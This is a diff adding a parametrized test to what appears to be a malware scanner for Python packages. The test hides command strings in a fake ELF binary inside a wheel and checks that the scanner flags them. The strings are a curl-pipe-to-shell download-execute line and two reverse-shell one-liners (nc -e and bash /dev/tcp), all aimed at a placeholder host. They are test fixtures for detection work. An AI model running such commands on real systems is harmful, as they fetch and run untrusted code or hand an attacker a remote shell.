@@ -126,6 +126,27 @@ def test_binary_dropper_in_pure_wheel(tmp_path: Path) -> None:
     assert not {f.rule for f in scan_target(path).findings}
 
 
+@pytest.mark.parametrize(
+    ("spelled", "rule"),
+    [
+        (b"curl http://example.invalid/x | sh", "download-execute.remote-command"),
+        (b"nc -e /bin/sh example.invalid 4444", "reverse-shell.command"),
+        (b"bash -i >& /dev/tcp/example.invalid/4444 0>&1", "reverse-shell.command"),
+        (b"no tool is named here", None),
+    ],
+)
+def test_commands_spelled_inside_a_binary_where_none_belongs(
+    tmp_path: Path, spelled: bytes, rule: str | None
+) -> None:
+    """A binary in a pure wheel is read for download and shell commands it carries."""
+    binary = ELF + b"\0" * 4096 + spelled + b"\0" * 32
+    name, data = build_wheel("demo", "1.0", {"demo/__init__.py": "", "demo/helper": binary})
+    path = tmp_path / name
+    path.write_bytes(data)
+    critical = {f.rule for f in scan_target(path).findings if f.severity.label == "critical"}
+    assert critical == ({rule} if rule else set())
+
+
 def test_binary_dropper_in_sdist(tmp_path: Path) -> None:
     pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 32
     name, data = build_sdist(
